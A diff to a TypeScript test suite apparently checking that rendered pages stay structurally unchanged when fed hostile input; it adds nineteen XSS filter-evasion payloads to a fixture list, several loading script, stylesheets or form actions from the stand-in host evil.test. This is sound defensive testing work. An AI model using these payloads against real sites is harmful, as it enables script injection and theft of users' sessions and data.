@@ -37,6 +37,25 @@ const NASTY = [
   '\u202e<script>alert(1)</script>',
   `\`\${alert(1)}\``,
   '\u0000<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<ScRiPt/x>alert(1)</ScRiPt\t>',
+  '<script src=//evil.test/x.js></script>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<math><mtext><mglyph><style><img src onerror=alert(1)>',
+  '<object data="data:text/html,<script>alert(1)</script>">',
+  '<embed src="javascript:alert(1)">',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<link rel=stylesheet href=//evil.test/x.css>',
+  '<button formaction="https://evil.test">Allow</button>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '</main></body><body onload=alert(1)>',
+  '<input type="hidden" name="csrf" value="stolen">',
+  'javascript:alert(1)//',
+  "'-alert(1)-'",
+  '\u2028<script>alert(1)</script>\u2029',
 ]
 
 /** Every element with the names of its attributes, so that anything that text has added shows. */
@@ -45,6 +64,10 @@ const skeletonOf = (html: string) =>
 
 describe('the pages', () => {
   const ordinary = samplePages(frame)
+
+  it('are tried with forty strings', () => {
+    expect(new Set(NASTY).size).toBeGreaterThanOrEqual(40)
+  })
 
   it.each(NASTY)('stay what they are when everything from outside is %j', (nasty) => {
     const pages = samplePages(frame, {
